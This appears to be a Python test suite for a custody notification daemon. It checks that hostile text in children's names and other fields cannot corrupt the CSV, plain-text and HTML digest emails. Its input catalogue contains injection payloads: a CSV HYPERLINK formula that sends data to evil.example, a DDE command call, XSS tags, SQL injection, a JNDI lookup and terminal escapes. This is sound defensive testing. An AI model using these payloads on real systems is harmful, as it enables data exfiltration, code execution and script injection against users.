"""Hostile text from the feed through every part of the daily digest (issue
10, interfaces.md §5; docs/digest.md "Hostile text").

Names and free text of a custody message may hold CRLF, HTML, CSV formula
prefixes, bidi controls, terminal escapes and other control characters. A
real daemon (its clock under the test's control) takes one custody message
per hostile string, the string in the child's given and family names, an
offence description, the appropriate adult's name, the grounds and the
record id's neighbours; the clock moves past the send time and the digest
arrives at a real SMTP server. Then:

- CSV (Python's csv module): the row and column counts are what the
  messages make (each child detained, new: custody, still_in_custody and
  new_child rows), no cell starts with = + - @ TAB or CR unless it is the
  value with a leading apostrophe, and otherwise every value is as sent;
- text/plain: CRLF line ends only, no control or bidi character, one entry
  line ("* ...") per child and no line that a name could have started;
- text/html in headless Chromium: exactly the elements the digest writes
  (no injected element or attribute), one <article> per child, and every
  name shown (cleaned) as text.
"""
import csv
import email
import email.policy
import html.parser
import io
import os
import re
import shutil
import subprocess
import tempfile
import time
import unittest

import yjtest
from smtp_receiver import SmtpReceiver

CHROMIUM = os.environ.get("YJ_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]

CONFIG = """
deployment = { id = "ht"; name = "Hostile test"; force = "E23000029"; };
email = { smtp_url = "smtp://127.0.0.1:%(port)d"; from = "yjlink@test.example"; starttls = "off"; };
recipients = (
  { id = "yjs:mk"; kind = "yjs"; name = "Milton Keynes YJS"; local_authorities = [ "E06000042" ];
    digest_times = [ "07:30" ]; transport = "email"; email = [ "yjs@mk.example" ];
    allow = [ "source_id", "force", "occurred_at", "child.*", "offences.*", "markers.*", "custody.*", "arrest.*",
              "interview.*", "outcome.*" ]; }
);
rules = (
  { id = "custody_digest"; feeds = [ "custody" ]; home_served = true; recipient = "yjs:home"; mode = "digest"; },
  { id = "first_contact"; first_contact = true; recipient = "yjs:home"; mode = "digest"; section = "new_child"; }
);
"""

# At least 40 strings that must not change the structure of any output.
CATALOGUE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\tTabbed", "\rCarriage", "=1+1", "+", "-", "@", "=",
    "Zoë\r\nForged: row", "Line\nbreak", "Two\r\n\r\nblank lines", "A,B,C", "\"quoted\" name", "semi;colon",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</h3></article><article><h3>Fake",
    "</td></tr><tr><td>", "&amp; &lt;entity&gt;", "<!-- comment", "]]> <![CDATA[", "<b>bold</b>",
    "javascript:alert(1)", "' OR 1=1 --", "${jndi:ldap://x/a}", "{{template}}", "%s%n%x", "back\\slash",
    "\u202eevil\u202c", "\u2066isolate\u2069", "\u200fRLM\u200e", "\u061cALM", "\u202aLRE\u202b",
    "\x1b[31mred\x1b[0m", "\x1b]52;c;Zm9v\x07", "\x07bell", "\x7fDEL", "\u0085NEL", "\u2028LS\u2029PS",
    "\x0bVT\x0cFF", "\r\n* Forged Child: still in custody\r\n", "\r\n== Act on first (99)\r\n",
    "😀 emoji", "O'Connor-Brown",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
BAD_TEXT = re.compile("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f\u0080-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
# The elements the digest writes; anything else in the DOM was injected.
TAGS = {"html", "head", "body", "meta", "title", "style", "header", "main", "footer", "section", "nav", "article",
        "h1", "h2", "h3", "p", "ul", "ol", "li", "a", "dl", "dt", "dd", "code", "span", "b", "bdi", "table",
        "thead", "tbody", "tr", "th", "td"}


def rfc(ts):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ts))


def clean(s):
    """What a person's view shows of s (docs/digest.md): controls become a space, bidi controls go."""
    s = re.sub("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", "", s)
    return re.sub("[\x00-\x1f\x7f\u0080-\u009f\u2028\u2029]", " ", s)


class Tags(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.text, self.articles, self.h3 = [], [], [], 0, []
        self._in_h3 = False
        self._in_article = 0
        self._skip = 0
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, k) for k, _ in attrs)
        self.articles += tag == "article"
        self._in_article += tag == "article"
        if tag == "h3" and self._in_article:
            self._in_h3 = True
            self.h3.append("")
        if tag in ("style", "script"):
            self._skip += 1

    def handle_endtag(self, tag):
        self._in_article -= tag == "article"
        if tag == "h3":
            self._in_h3 = False
        if tag in ("style", "script"):
            self._skip -= 1

    def handle_data(self, data):
        if self._in_h3:
            self.h3[-1] += data
        if not self._skip:
            self.text.append(data)


class DigestHostileTextTest(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        cls.smtp = SmtpReceiver().start()
        cls.tmp = tempfile.mkdtemp(prefix="yjdh-")
        cls.daemon = None
        try:
            cls.run_scenario()
        except BaseException:
            cls.tearDownClass()
            raise

    @classmethod
    def tearDownClass(cls):
        if cls.daemon:
            cls.daemon.cleanup()
        cls.smtp.stop()
        shutil.rmtree(cls.tmp, ignore_errors=True)

    @classmethod
    def run_scenario(cls):
        conf = os.path.join(cls.tmp, "h.conf")
        with open(conf, "w") as f:
            f.write(CONFIG % {"port": cls.smtp.port})
        t0 = 1795550400  # Tue 24 Nov 2026 20:00 GMT
        cls.daemon = d = yjtest.Daemon(workdir=cls.tmp, config=conf, sets={
            "testing.clock_control": "true", "testing.clock_start": rfc(t0)}).start()
        d.ctl_request("clock", {"set": rfc(t0 + 7200)})
        feed = yjtest.Feed(d.ingest)
        cls.sent = {}     # seq -> the hostile string
        try:
            for i, s in enumerate(CATALOGUE):
                ev = yjtest.custody_event(occurred_at=rfc(t0 + 3600))
                ev["source_id"] = "hostile-%d" % i
                ev["child"].update({"person_id": "TVP-H%03d" % i, "given_name": s, "family_name": s,
                                    "date_of_birth": "2011-06-01"})
                ev["offences"] = [{"code": "X%d" % i, "description": s}]
                ev["custody"].update({"record_id": "HR-%d" % i, "arrived_at": rfc(t0 + 1800),
                                      "status": "detained", "status_at": rfc(t0 + 3600), "reason": s,
                                      "appropriate_adult": {"name": s, "relationship": s}})
                r = feed.request("custody", ev)
                if r[1] == b"OK":
                    cls.sent[int(r[3])] = s
        finally:
            feed.close()
        d.ctl_request("clock", {"set": rfc(1795591860)})  # Wed 25 Nov 2026 07:31 GMT: the digest goes
        if not cls.smtp.wait_for(1, timeout=30):
            raise AssertionError("no digest arrived:\n" + d.read_log()[-3000:])
        cls.msg = email.message_from_bytes(cls.smtp.messages[0]["data"], policy=email.policy.default)
        cls.text = cls.msg.get_body(preferencelist=("plain",)).get_content()
        cls.html = cls.msg.get_body(preferencelist=("html",)).get_content()
        att = [p for p in cls.msg.iter_attachments() if p.get_content_type() == "text/csv"][0]
        cls.csv_bytes = att.get_payload(decode=True)

    def test_most_of_the_catalogue_was_taken(self):
        # The normaliser may refuse some (that is its business); what it takes must be safe here.
        self.assertGreaterEqual(len(self.sent), 40, "hostile strings accepted: %d" % len(self.sent))

    def test_csv_structure_and_formula_prefix(self):
        rows = list(csv.reader(io.StringIO(self.csv_bytes.decode("utf-8"), newline=""), strict=True))
        header, body = rows[0], rows[1:]
        # custody + still_in_custody + new_child for each child detained and new.
        self.assertEqual(len(body), 3 * len(self.sent))
        for r in body:
            self.assertEqual(len(r), len(header), r[:3])
        col = {name: header.index(name) for name in ("seq", "given_name", "family_name", "offences",
                                                     "appropriate_adult", "section")}
        for r in body:
            for cell in r:
                self.assertFalse(cell.startswith(FORMULA), "a formula cell: %r" % cell)
            s = self.sent[int(r[col["seq"]])]
            want = "'" + s if s.startswith(FORMULA) else s
            self.assertEqual(r[col["given_name"]], want)
            self.assertEqual(r[col["family_name"]], want)
            self.assertEqual(r[col["offences"]], want)
        self.assertEqual({r[col["section"]] for r in body}, {"custody", "still_in_custody", "new_child"})

    def test_text_part_cannot_be_forged(self):
        text = self.text
        self.assertEqual(text.count("\n"), text.count("\r\n"), "a bare LF")
        self.assertEqual(text.count("\r"), text.count("\r\n"), "a bare CR")
        self.assertIsNone(BAD_TEXT.search(text), "a control or bidi character: %r" % (BAD_TEXT.search(text),))
        lines = text.split("\r\n")
        entries = [l for l in lines if l.startswith("* ")]
        self.assertEqual(len(entries), len(self.sent), "one entry per child, none forged")
        self.assertEqual(sum(1 for l in lines if l.startswith("== ")), 1, "one part heading (Act on first)")
        for s in self.sent.values():
            name = clean(s) + " " + clean(s)
            self.assertTrue(any(l[2:].startswith(name + ":") for l in entries), repr(name))
        # Every other line is the digest's own: indented, or one of its fixed lines.
        for l in lines:
            if l and not l.startswith((" ", "* ", "- ", "== ")):
                self.assertRegex(l, r"^(OFFICIAL-SENSITIVE|Milton Keynes YJS: yjlink daily digest|Wednesday 25 November "
                                    r"2026, 07:30|\d+ children|Window: |Digest id: |Feeds |In the CSV|Sent by yjlink)",
                                 repr(l))

    def test_html_in_chromium_has_no_injected_element(self):
        page = os.path.join(self.tmp, "digest.html")
        with open(page, "w", encoding="utf-8") as f:
            f.write(self.html)
        profile = tempfile.mkdtemp(prefix="chromium-", dir=self.tmp)
        p = subprocess.run([CHROMIUM] + CHROMIUM_FLAGS + ["--user-data-dir=" + profile, "--window-size=390,844",
                                                          "--dump-dom", "file://" + page],
                           capture_output=True, text=True, timeout=180, stdin=subprocess.DEVNULL)
        self.assertEqual(p.returncode, 0, p.stderr[-2000:])
        dom = Tags(p.stdout)
        self.assertEqual(set(dom.tags) - TAGS, set(), "elements the digest does not write")
        for tag, attr in dom.attrs:
            self.assertFalse(attr.startswith("on"), "%s %s" % (tag, attr))
            self.assertIn(attr, {"lang", "charset", "name", "content", "class", "id", "data-child", "data-seq",
                                 "aria-labelledby", "aria-label", "href", "scope"}, tag)
        self.assertEqual(dom.articles, len(self.sent), "one entry per child")
        heads = sorted(h.strip() for h in dom.h3)
        want = sorted((clean(s) + " " + clean(s)).strip() for s in self.sent.values())
        self.assertEqual(heads, want)
        self.assertIsNone(BAD_TEXT.search("".join(dom.text)))


if __name__ == "__main__":
    unittest.main(verbosity=2)
